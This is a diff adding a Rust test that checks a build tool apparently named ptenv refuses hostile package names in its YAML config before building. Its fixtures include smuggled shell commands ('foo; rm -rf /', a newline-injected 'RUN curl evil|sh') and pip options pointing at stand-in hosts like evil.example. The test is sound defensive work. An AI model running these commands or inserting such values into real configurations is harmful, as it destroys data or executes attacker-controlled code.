@@ -431,3 +431,35 @@ fn a_failed_build_shows_its_last_lines_and_leaves_nothing() {
     );
     nothing_left(&p);
 }
+
+#[test]
+fn a_hostile_package_name_is_refused_before_any_build() {
+    for (i, packages) in [
+        "{apt: [\"--allow-unauthenticated\"]}",
+        "{apt: [git, \"foo; rm -rf /\"]}",
+        "{pip: [\"a\\nRUN curl evil|sh\"]}",
+        "{pip: [\"-e git+https://evil.example/x.git\"]}",
+        "{pip: [\"--index-url=http://evil\"]}",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let p = shell_project(
+            &format!("engine-hostile-{i}"),
+            &format!("packages: {packages}\n"),
+        );
+        for args in [&["up", "--dry-run"][..], &["up", "--detach"][..]] {
+            let out = p.ptenv(args).run();
+            out.assert_exit(1);
+            let file = p.path().join("ptenv.yaml");
+            assert!(
+                out.stderr.contains(&format!("ptenv: {}:", file.display())),
+                "{out}"
+            );
+            assert!(out.stderr.contains("is not a"), "{out}");
+            assert!(!out.stderr.contains("Building"), "{out}");
+            assert!(!out.stdout.contains("FROM"), "{out}");
+        }
+        nothing_left(&p);
+    }
+}
